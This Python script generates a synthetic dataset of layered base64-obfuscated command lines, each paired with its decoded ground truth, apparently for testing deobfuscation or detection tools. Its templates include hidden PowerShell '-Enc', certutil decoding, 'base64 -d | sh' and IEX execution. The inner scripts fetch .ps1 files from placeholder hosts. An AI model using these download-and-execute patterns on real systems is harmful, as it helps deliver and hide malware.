"""Command lines with something encoded in them, one to four layers deep, with the text at the core as ground truth.

Shares as in the measurement that the project's references describe: 41 % one layer, 32 % two, the rest three or four;
about a ninth UTF-16LE; half plain text at the core, the rest gzip, zip or tar.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import random
import sys
import tarfile
import zipfile
from pathlib import Path

TEMPLATES = (
    "powershell.exe -NoP -NonI -W Hidden -Enc {}",
    "cmd.exe /c echo {} > %TEMP%\\a.b64 && certutil -decode %TEMP%\\a.b64 %TEMP%\\a.ps1",
    "python3 -c \"import base64;exec(base64.b64decode('{}'))\"",
    "bash -c 'echo {} | base64 -d | sh'",
    "$d=[Convert]::FromBase64String('{}');IEX ([Text.Encoding]::UTF8.GetString($d))",
    "{}",
    "--payload={} --retry 3",
    "run {}",
)
VERBS = ("Invoke-WebRequest", "Start-Process", "Get-Content", "New-Service", "Set-ItemProperty", "Copy-Item", "net use")
WORDS = ("report", "update", "backup", "client", "agent", "temp", "public", "service", "winlogon", "invoice", "stage")
DEPTHS, DEPTH_WEIGHTS = (1, 2, 3, 4), (410, 316, 150, 124)
UTF16_SHARE = 0.113
CORES, CORE_WEIGHTS = ("text", "gz", "zip", "tar"), (3, 1, 1, 1)
MOST_LINES = 30


def script(random_: random.Random) -> str:
    """A script of some lines that no other row has."""
    lines = [f"# {random_.getrandbits(64):016x}"]
    for _ in range(random_.randint(1, MOST_LINES)):
        verb, word = random_.choice(VERBS), random_.choice(WORDS)
        number = random_.randint(1, 254)
        host = f"http://198.51.100.{number}/{word}/{random_.getrandbits(32):08x}.ps1"
        lines.append(f"{verb} -Uri {host} -OutFile C:\\Users\\Public\\{word}{number}.ps1")
    return "\r\n".join(lines)


def packed(text: str, core: str, encoding: str) -> bytes:
    """The text's bytes, in an archive where one is asked for."""
    data = text.encode(encoding)
    out = io.BytesIO()
    if core == "gz":
        return gzip.compress(data, mtime=0)
    if core == "zip":
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(zipfile.ZipInfo("stage.ps1"), data, zipfile.ZIP_DEFLATED)
        return out.getvalue()
    if core == "tar":
        with tarfile.open(fileobj=out, mode="w") as tar:
            info = tarfile.TarInfo("stage.ps1")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        return out.getvalue()
    return data


def row(random_: random.Random) -> dict[str, object]:
    """One command line, and what is at its core."""
    depth = random_.choices(DEPTHS, DEPTH_WEIGHTS)[0]
    core = random_.choices(CORES, CORE_WEIGHTS)[0]
    encoding = "utf-16-le" if random_.random() < UTF16_SHARE else "utf-8"
    inner = script(random_)
    data = packed(inner, core, encoding)
    for level in range(depth):
        text = random_.choice(TEMPLATES).format(base64.b64encode(data).decode())
        data = text.encode(encoding if level == 0 and core == "text" else "utf-8")
    return {"command": text, "inner": inner, "depth": depth, "core": core, "encoding": encoding}


def write(path: Path, rows: int, seed: int) -> Path:
    """Write them as JSON lines; the same seed gives the same bytes."""
    random_ = random.Random(seed)
    with path.open("w", encoding="utf-8") as file:
        file.writelines(json.dumps(row(random_)) + "\n" for _ in range(rows))
    return path


if __name__ == "__main__":
    print(write(Path(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])))
